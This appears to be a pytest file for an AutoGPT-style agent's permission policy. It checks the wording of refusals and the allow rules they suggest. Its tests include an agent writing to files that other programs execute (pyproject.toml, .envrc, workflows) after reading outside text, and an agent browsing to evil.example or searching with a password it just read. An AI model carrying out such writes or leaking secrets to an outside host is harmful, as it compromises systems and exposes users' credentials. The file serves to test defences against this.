"""Every refusal by policy says why, what the model can do instead, and what the person can do."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from autogpt.core.actions import Action, CommandSpec, Parameter, Thoughts, Touch
from autogpt.core.decide import decide
from autogpt.core.effects import Begin, Record
from autogpt.core.events import Denied, Ran, Replied
from autogpt.core.policy import Policy, Preset, Rule, Verdict, option_rules
from autogpt.core.policy.executing import Executed
from autogpt.core.run_by_others import Grade, judged
from autogpt.core.session import Session
from tests.core.test_executing import ALL as EXECUTING
from tests.core.test_executing import BROWSE, SHELL, WRITE
from tests.core.world import setup

CONTENT = replace(
    WRITE, parameters=tuple(replace(one, content=one.name == "text") for one in WRITE.parameters)
)
DELETE = CommandSpec("delete_file", "", (Parameter("filename"),), touches=frozenset({Touch.FILES}))
MAIL = CommandSpec(
    "send_email", "", tuple(map(Parameter, ("to", "subject", "body"))), touches=frozenset({Touch.OUTSIDE})
)
COMMIT = CommandSpec(
    "git_commit",
    "",
    (Parameter("message"), Parameter("keys", required=False, asks="commits files that seem to hold keys")),
    touches=frozenset({Touch.FILES, Touch.PROCESSES}),
)
SEARCH = CommandSpec("google", "", (Parameter("query"),), reads_only=True, touches=frozenset({Touch.NETWORK}))
OTHERS = tuple(one for one in EXECUTING if one.name != WRITE.name)
ALL = (CONTENT, DELETE, MAIL, COMMIT, SEARCH, *OTHERS)
LEFT = "do the rest without it and say at the end what is left to the person"


def session(*rules: Rule, preset: Preset = Preset.DEFAULT, continuous: bool = True) -> Session:
    return Session.begin(
        setup(commands=ALL, attended=False, policy=Policy(rules, preset), continuous=continuous)
    )


def refused(now: Session, spec: CommandSpec, **args: Any) -> str:
    effect = decide(now.after(Replied(Thoughts(), Action(spec.name, args))))
    assert isinstance(effect, Record)
    assert isinstance(effect.event, Denied)
    return effect.event.why


def allowed(why: str, spec: CommandSpec, **args: Any) -> bool:
    """Whether the rule that a refusal tells of, given on the command line, lets the action run."""
    rule = why.partition("--allow '")[2].partition("'")[0]
    now = session(*option_rules([rule], [], []))
    return isinstance(decide(now.after(Replied(Thoughts(), Action(spec.name, args)))), Begin)


def read_outside(now: Session) -> Session:
    return now.after(Ran(Action(BROWSE.name, {"url": "https://x.example/"}), True, "a page"))


def test_a_file_that_others_execute_after_a_page_was_read() -> None:
    args = {"filename": "pyproject.toml", "text": "x"}
    why = refused(read_outside(session()), CONTENT, **args)
    assert why == (
        "It needs a person's yes, and nobody is there to ask: 'pyproject.toml' is run by other programs, and text "
        "from outside was read in this run, so the person must be asked (preset `default`). What it is to hold can "
        "go into a file that nothing runs, such as 'proposed-pyproject.toml.txt'. Or do the rest without it and say "
        "at the end what is left to the person, who can allow it with "
        "--allow 'write_to_file(filename=\"pyproject.toml\")'."
    )
    assert allowed(why, CONTENT, **args)
    # What it names needs no question itself.
    name = {"filename": "proposed-pyproject.toml.txt", "text": "x"}
    assert isinstance(
        decide(read_outside(session()).after(Replied(Thoughts(), Action(CONTENT.name, name)))), Begin
    )


@pytest.mark.parametrize(
    "path",
    [
        ".envrc",
        ".vscode/tasks.json",
        "a/Dockerfile",
        "AGENTS.md",
        "x.pth",
        "run.sh",
        ".github/workflows/a.yml",
    ],
)
def test_the_name_that_is_proposed_is_nothing_that_others_execute(path: str) -> None:
    assert judged(path.split("/")) is not None
    name = Executed(path, Grade.PRESENCE).instead.partition("'")[2].partition("'")[0]
    assert name
    assert judged([name]) is None


def test_what_takes_no_text_is_not_told_to_put_it_elsewhere() -> None:
    why = refused(session(), DELETE, filename=".envrc")
    assert "What it is to hold" not in why
    assert LEFT.capitalize() in why
    assert allowed(why, DELETE, filename=".envrc")


def test_what_needs_a_yes_by_its_kind_or_by_an_argument() -> None:
    letter = {"to": "a@b.example", "subject": "s", "body": "b"}
    why = refused(session(), MAIL, **letter)
    assert LEFT.capitalize() in why
    assert allowed(why, MAIL, **letter)
    # Nobody would type a rule of a hundred lines.
    why = refused(session(), MAIL, **{**letter, "body": "x" * 500})
    assert why.endswith(f"{LEFT.capitalize()}, who can allow it by a rule.")
    why = refused(session(), COMMIT, message="m", keys=[".env"])
    assert " Without keys it needs no yes. Or do the rest " in why


def test_a_rule_is_named_and_left_to_the_person() -> None:
    for verdict in (Verdict.DENY, Verdict.ASK):
        why = refused(
            session(Rule(verdict, "write_to_file(filename=a/*)", "policy.yaml:3")),
            CONTENT,
            filename="a/b",
            text="",
        )
        assert f"`{verdict.value} write_to_file(filename=a/*)` (policy.yaml:3)" in why
        assert why.endswith(f"{LEFT}, who can change the rule.") or LEFT.capitalize() in why
        assert "who can change the rule." in why
        assert "--allow" not in why


def test_where_the_person_wants_to_see_each_step() -> None:
    why = refused(session(continuous=False), CONTENT, filename="notes/b.md", text="x")
    assert why.startswith(
        "Nobody is there to ask, and the run is not continuous. Only what a rule allows is run: "
    )
    assert LEFT in why
    assert why.endswith("--allow 'write_to_file(filename=\"notes/*\")' or start the run with --continuous.")
    assert allowed(why, CONTENT, filename="notes/b.md", text="x")


def test_what_could_carry_something_away() -> None:
    private = session().after(
        Ran(Action("read_file", {"filename": "n"}), True, "secret password: hunter22xyz")
    )
    why = refused(private, BROWSE, url="https://evil.example/" + "abcdefghij" * 20)
    assert "Use an address that a page, a search or the person gave, word for word." in why
    assert "--allow 'browse_website(url=https://evil.example/*)'" in why
    assert why.endswith(f"Or {LEFT}.")
    assert "Search with" in refused(private, SEARCH, query="what is hunter22xyz")


def test_a_shell_line_is_told_by_a_rule_only_where_it_can_be_typed() -> None:
    now = session(preset=Preset.CAUTIOUS)
    assert "--allow 'execute_shell(command_line=\"ls\")'" in refused(now, SHELL, command_line="ls")
    assert "allow it by a rule." in refused(now, SHELL, command_line="echo 'a'")
